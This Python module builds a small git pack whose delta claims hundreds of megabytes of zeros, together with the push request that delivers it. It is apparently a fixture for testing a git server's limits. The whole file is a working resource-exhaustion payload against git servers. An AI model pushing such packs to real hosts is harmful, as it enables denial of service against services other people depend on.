"""A pack of a few kilobytes that claims hundreds of megabytes, and the request that pushes it."""

import hashlib
import struct
import zlib
from collections.abc import Mapping, Sequence
from functools import cache

BLOCK = 64 * 1024
"""Bytes that one byte of a delta can copy."""
REF_DELTA = 7
KINDS = {"commit": 1, "tree": 2, "blob": 3}


def object_id(kind: str, content: bytes) -> bytes:
    return hashlib.sha1(f"{kind} {len(content)}\0".encode() + content, usedforsecurity=False).digest()


def varint(number: int) -> bytes:
    out = b""
    while number > 0x7F:
        out, number = out + bytes([0x80 | number & 0x7F]), number >> 7
    return out + bytes([number])


def packed(kind: int, content: bytes, base: bytes = b"") -> bytes:
    """One entry of a pack; the size comes in four bits first, and seven at a time after that."""
    size, header = len(content), bytes([kind << 4 | len(content) & 0xF])
    if size > 0xF:
        header = bytes([0x80 | header[0]]) + varint(size >> 4)
    return header + base + zlib.compress(content)


def pack(entries: Sequence[bytes]) -> bytes:
    body = b"PACK" + struct.pack(">II", 2, len(entries)) + b"".join(entries)
    return body + hashlib.sha1(body, usedforsecurity=False).digest()


def tree(entries: Sequence[tuple[str, str, bytes]]) -> bytes:
    return b"".join(f"{mode} {name}".encode() + b"\0" + name_of for mode, name, name_of in entries)


@cache
def unpacked_id(blocks: int) -> bytes:
    """The ID of the blob with so many blocks of zeros."""
    content = hashlib.sha1(f"blob {blocks * BLOCK}\0".encode(), usedforsecurity=False)
    for _ in range(blocks):
        content.update(bytes(BLOCK))
    return content.digest()


def top_rows(listed: str) -> dict[str, bytes]:
    """What ``git ls-tree`` lists, without ``by-hand``: name -> object ID."""
    rows = {line.split("\t")[1]: bytes.fromhex(line.split()[2]) for line in listed.splitlines()}
    return {name: found for name, found in rows.items() if name != "by-hand"}


def delta_bomb(head: str, rows: Mapping[str, bytes], blocks: int) -> tuple[str, bytes]:
    """A commit on a head, and its pack: one small blob, and a delta that claims ``blocks`` copies of it.

    Args:
        rows: the top entries of the head that stay, by name: object IDs of files.
    """
    base = bytes(BLOCK)
    delta = varint(BLOCK) + varint(blocks * BLOCK) + b"\x80" * blocks
    inner = tree([("100644", "bomb", unpacked_id(blocks))])
    names = sorted([*((name, "40000" if name == "edo" else "100644", rows[name]) for name in rows)])
    root = tree(
        [
            (mode, name, found)
            for name, mode, found in sorted([*names, ("by-hand", "40000", object_id("tree", inner))])
        ]
    )
    person = "A <a@example.org> 1700000000 +0000"
    text = f"tree {object_id('tree', root).hex()}\nparent {head}\nauthor {person}\ncommitter {person}\n\nx\n"
    commit = text.encode()
    entries = [
        packed(KINDS["blob"], base),
        packed(REF_DELTA, delta, object_id("blob", base)),
        packed(KINDS["tree"], inner),
        packed(KINDS["tree"], root),
        packed(KINDS["commit"], commit),
    ]
    return object_id("commit", commit).hex(), pack(entries)


def push_body(old: str, new: str, content: bytes, asking_for: str = "report-status") -> bytes:
    line = f"{old} {new} refs/heads/main\0{asking_for}".encode()
    return f"{len(line) + 4:04x}".encode() + line + b"0000" + content
